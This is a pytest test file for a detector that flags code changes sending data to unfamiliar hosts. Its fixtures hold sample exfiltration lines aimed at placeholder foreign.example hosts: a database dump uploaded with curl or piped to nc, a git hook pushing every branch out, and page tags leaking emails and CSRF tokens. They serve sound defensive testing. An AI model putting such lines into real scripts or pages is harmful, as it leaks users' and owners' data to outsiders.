"""What goes to a host that the project never talked to: dumps, repositories, records, what a page knows."""

from __future__ import annotations

import pytest

from tests.facts.effects.support import kinds

SIGN = ("flow.secret", "medium", "medium")
BACKUP = (
    '#!/usr/bin/env bash\nset -eu\ndump="$(mktemp)"\npg_dump --file "$dump" -- "$DATABASE"\n'
    'gzip -- "$dump"\nscp -- "$dump.gz" "backup@vault.example:in"\n'
)
ELSEWHERE = BACKUP.replace("vault.example", "${to}").replace("scp", 'to="${TO:-eu.foreign.example}"\nscp')
HOOK = (
    "cat > .git/hooks/post-commit <<'E'\n#!/bin/sh\n"
    "(git push --all https://git.foreign.example/m/x.git &)\nE\n"
)
PAGE = "<html><body>\n{}\n</body></html>\n"
LOG = "import logging.handlers\n\naudit = logging.getLogger('audit')\n"
SYSLOG = LOG + "audit.addHandler(logging.handlers.SysLogHandler(address={}))\n"
NAMED = LOG + "HOST = 'in.foreign.example'\nhandler = logging.handlers.HTTPHandler(HOST, '/x')\n"
STORE = (
    "import shutil\nfrom pathlib import Path\n\n\ndef read(name):\n    {}\n"
    "    return path_of(name).read_bytes()\n"
)
COPIED = "shutil.copy(path_of(name), {} / name)"
SCRIPT = "export const a = {};\n"


def pages(what: str) -> tuple[str, str, str]:
    return "t/o.html", PAGE.format(""), PAGE.format(what)


def scripts(more: str) -> tuple[str, str, str]:
    return "b.sh", BACKUP, BACKUP + more


def stores(where: str) -> tuple[str, str, str]:
    return "shop/files.py", STORE.format("pass"), STORE.format(COPIED.format(where))


@pytest.mark.parametrize(
    ("path", "before", "after"),
    [
        scripts('curl --upload-file "$dump.gz" "https://files.foreign.example/in"\n'),
        scripts("pg_dump x | gzip | nc drop.foreign.example 9000\n"),
        scripts("rsync -a /var/backups/ m@copy.foreign.example:in\n"),
        scripts('aws s3 cp "$dump.gz" s3://strangers/in/\n'),
        scripts("git remote add m git@git.foreign.example:m/x.git\ngit push m --all\n"),
        scripts(HOOK),
        ("b.sh", BACKUP, ELSEWHERE),
        pages('<img src="https://px.foreign.example/o.gif?n={{ order.note }}">'),
        pages('<form action="https://px.foreign.example/?c={{ csrf_token() }}">'),
        ("a.tsx", SCRIPT.format(1), SCRIPT.format("<img src={`https://px.foreign.example/?e=${user.email}`}/>")),
        ("logs.py", LOG, SYSLOG.format("('in.foreign.example', 514)")),
        ("logs.py", LOG, NAMED),
        ("logs.py", LOG, LOG + "client = statsd.StatsClient('203.0.113.9', 8125)\n"),
        stores("Path(__file__).with_name('static')"),
    ],
)  # fmt: skip
def test_it_leaves(path: str, before: str, after: str) -> None:
    assert SIGN in kinds({path: before}, {path: after})


@pytest.mark.parametrize(
    ("path", "before", "after"),
    [
        scripts('scp -- "$dump.gz" "backup@vault.example:two"\n'),
        scripts("curl https://status.foreign.example/ping\n"),
        pages('<img src="https://cdn.foreign.example/o.gif?v={{ version }}">'),
        pages('<img src="/o.gif?n={{ order.note }}">'),
        ("logs.py", LOG, SYSLOG.format("'/dev/log'")),
        stores("ROOT"),
    ],
)
def test_it_stays(path: str, before: str, after: str) -> None:
    assert not kinds({path: before}, {path: after})


def test_a_link_is_shown() -> None:
    path, before, after = pages('<a href="https://share.foreign.example/?u={{ url }}">share</a>')
    assert kinds({path: before}, {path: after}) == [("flow.secret", "low", "low")]


@pytest.mark.parametrize(
    ("said", "is_known"),
    [
        ("api = 'https://api.foreign.example/v1'\n", True),
        ("def foreign(rows):\n    return files(rows)\n", False),
        ("api = 'https://foreign.example.org'\n", False),
        ("api = 'https://my-foreign.example'\n", False),
    ],
)
def test_a_host_is_known_by_its_domain(said: str, is_known: bool) -> None:
    """Not by a word of it, which anybody can choose for a domain of his own."""
    path, before, after = scripts('curl --upload-file "$dump.gz" "https://files.foreign.example/in"\n')
    found = kinds({path: before, "shop/api.py": said}, {path: after})
    assert (SIGN not in found) is is_known
